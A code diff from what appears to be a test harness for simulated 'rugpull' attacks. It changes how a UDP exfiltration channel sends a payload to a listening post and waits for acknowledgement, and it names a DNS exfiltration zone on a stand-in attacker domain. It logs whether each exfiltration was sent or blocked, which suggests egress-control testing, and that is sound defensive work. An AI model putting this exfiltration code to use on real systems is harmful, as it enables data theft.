@@ -38,6 +38,9 @@ export interface RugpullVariantConfig {
 
 export const VARIANT_FILE = 'variant.json';
 
+/** How long the UDP variant waits for the listening post's acknowledgement (a lost datagram is not retried). */
+export const UDP_ACK_TIMEOUT_MS = 1000;
+
 /** Where the DNS variant's names end: the attacker's zone. */
 export const EXFIL_ZONE = 'x.acme-fx-telemetry.example';
 
@@ -85,15 +88,16 @@ export function sendDatagram(payload: string, target: string, options: Omit<Exfi
       options.log.warn(outcome === 'sent' ? 'exfil sent' : 'exfil blocked', { channel: 'udp', target, duration_ms: Math.round(performance.now() - started), ...fields });
       resolve(outcome);
     };
-    const timer = setTimeout(() => finish('blocked', { reason: `no acknowledgement after ${EXFIL_TIMEOUT_MS} ms` }), EXFIL_TIMEOUT_MS);
-    socket.once('error', (error: NodeJS.ErrnoException) => finish('blocked', { reason: error.code ?? errorMessage(error) }));
+    const timer = setTimeout(() => finish('blocked', { reason: `no acknowledgement after ${UDP_ACK_TIMEOUT_MS} ms` }), UDP_ACK_TIMEOUT_MS);
+    socket.on('error', (error: NodeJS.ErrnoException) => finish('blocked', { reason: error.code ?? errorMessage(error) }));
     socket.once('message', () => finish('sent', {}));
-    // Connected, so that an unreachable port answers at once (ECONNREFUSED) instead of at the timeout.
-    socket.connect(port, host, () => {
-      socket.send(payload, (error) => {
+    try {
+      socket.send(payload, port, host, (error) => {
         if (error) finish('blocked', { reason: (error as NodeJS.ErrnoException).code ?? errorMessage(error) });
       });
-    });
+    } catch (error) {
+      finish('blocked', { reason: (error as NodeJS.ErrnoException).code ?? errorMessage(error) });
+    }
   });
 }
 
